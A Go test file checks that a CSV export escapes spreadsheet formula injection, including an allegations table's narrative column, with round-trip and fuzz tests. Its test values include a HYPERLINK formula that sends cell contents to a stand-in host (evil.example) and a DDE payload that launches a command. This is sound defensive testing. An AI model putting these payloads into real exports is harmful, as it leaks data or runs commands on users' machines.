package exchange

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestGuardCell(t *testing.T) {
	for _, c := range []struct{ in, out string }{
		{"", ""},
		{"plain", "plain"},
		{`=HYPERLINK("http://x.example/?"&A1,"click")`, `'=HYPERLINK("http://x.example/?"&A1,"click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"-12.5", "-12.5"}, // a number, not a formula
		{"+3", "+3"},
		{"'quoted", "'quoted"},
		{"'=x", "''=x"}, // the apostrophe a reader takes off must be ours
		{"''", "'''"},
		{"'", "'"},
	} {
		if got := guardCell(c.in); got != c.out {
			t.Errorf("guardCell(%q) = %q, want %q", c.in, got, c.out)
		}
		if back := unguardCell(c.out); back != c.in {
			t.Errorf("unguardCell(%q) = %q, want %q", c.out, back, c.in)
		}
	}
}

// A narrative written to be a formula reaches the CSV as text and comes
// back from the CSV reader as written.
func TestCSVExportGuardsFormulas(t *testing.T) {
	table, _ := TableNamed(TableAllegations)
	col := -1
	for i, c := range table.Columns {
		if c.Name == "narrative" {
			col = i
		}
	}
	if col < 0 {
		t.Fatal("the allegations table has no narrative column")
	}
	hostile := `=HYPERLINK("http://evil.example/?leak="&A2,"details")`
	row := Row{Values: make([]any, len(table.Columns))}
	row.Values[0] = "a1"
	row.Values[col] = hostile
	var buf bytes.Buffer
	w := NewCSVWriter(&buf)
	if err := w.Begin(table); err != nil {
		t.Fatal(err)
	}
	if err := w.Write(row); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := recs[2][col]; got != "'"+hostile {
		t.Fatalf("the narrative is written %q: a spreadsheet would run it", got)
	}
	feat, err := NewCSVReader(bytes.NewReader(buf.Bytes()), table).Next()
	if err != nil {
		t.Fatal(err)
	}
	if got := feat.Props["narrative"]; got != hostile {
		t.Fatalf("read back %q, want %q", got, hostile)
	}
}

// FuzzGuardCell: reading gives back what was written, and nothing written
// begins like a formula unless it is a number.
func FuzzGuardCell(f *testing.F) {
	for _, s := range []string{"=1+1", "'=x", "-3", "-x", "''", "plain", "@"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		g := guardCell(s)
		if unguardCell(g) != s {
			t.Fatalf("unguardCell(guardCell(%q)) = %q", s, unguardCell(g))
		}
		if g != "" && formulaLead(g[0]) && !isNumber(g) {
			t.Fatalf("guardCell(%q) = %q begins like a formula", s, g)
		}
	})
}
